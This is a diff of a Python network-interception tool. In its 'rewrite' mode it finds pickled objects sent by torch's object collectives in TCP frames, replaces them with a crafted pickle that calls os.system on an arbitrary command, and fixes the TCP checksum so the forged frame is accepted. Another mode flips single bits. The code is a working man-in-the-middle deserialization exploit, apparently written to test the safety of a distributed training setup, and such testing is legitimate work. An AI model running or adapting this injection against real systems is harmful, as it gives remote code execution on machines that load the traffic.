@@ -2,35 +2,23 @@
 changes what it likes. Runs in the namespace of their bridge; says ``copying`` when it does.
 
 MODE ``rewrite``: a pickle that torch's object collectives sent becomes one that runs COMMAND when
-loaded. All checksums are made right that anybody can compute: TCP's, and a CRC-32C of the payload
-where the link has one (potluck had such links once). MODE ``flip``: one bit of one frame is
-changed, after 100,000 bytes in full frames. Ends at a line on stdin, and says how many frames it
-changed.
+loaded, with TCP's checksum made right. MODE ``flip``: one bit of one frame is changed, after
+100,000 bytes in full frames. Ends at a line on stdin, and says how many frames it changed.
 """
 
 from __future__ import annotations
 
 import fcntl
+import re
 import select
 import socket
 import struct
 import sys
 from collections.abc import Callable
 
-POTLUCK = b"PL\x01\x01"  # magic, version, DATA
-HEADER = 48
-LENGTH_AT = 28
-PICKLE = (b"\x80\x04\x95", b"\x80\x02}", b"\x80\x05\x95")
+PICKLE = re.compile(rb"\x80[\x04\x05]\x95..\0\0\0\0\0\0", re.DOTALL)
+"""How a pickle of less than 64 KiB begins: protocol, frame, its length."""
 ETHERNET, IPV4, TCP = 14, 0x0800, 6
-
-
-def crc32c(data: bytes) -> int:
-    crc = 0xFFFFFFFF
-    for byte in data:
-        crc ^= byte
-        for _ in range(8):
-            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
-    return crc ^ 0xFFFFFFFF
 
 
 def internet_checksum(data: bytes) -> int:
@@ -64,20 +52,13 @@ def with_checksum(frame: bytearray) -> bytes:
 def rewritten(frame: bytes, command: str) -> bytes:
     """The frame with a pickle of the attacker in it, or as it was."""
     begin = payload_at(frame)
-    header = frame.find(POTLUCK, begin) if begin else -1
-    while header >= 0:
-        (length,) = struct.unpack_from("<I", frame, header + LENGTH_AT)
-        for gap in (0, 4):  # bytes between header and payload
-            at = header + HEADER + gap
-            if length > 200 and frame[at : at + 3] in PICKLE and at + length <= len(frame):
-                evil = f"cos\nsystem\n(S'{command}'\ntR.".encode().ljust(length, b"\0")
-                changed = bytearray(frame)
-                changed[at : at + length] = evil
-                if gap:
-                    changed[at + length : at + length + 4] = struct.pack("<I", crc32c(evil))
-                return with_checksum(changed)
-        header = frame.find(POTLUCK, header + 1)
-    return frame
+    pickle = PICKLE.search(frame, begin) if begin else None
+    evil = f"cos\nsystem\n(S'{command}'\ntR.".encode()  # what follows its end is not read
+    if pickle is None or pickle.start() + len(evil) > len(frame):
+        return frame
+    changed = bytearray(frame)
+    changed[pickle.start() : pickle.start() + len(evil)] = evil
+    return with_checksum(changed)
 
 
 seen = 0
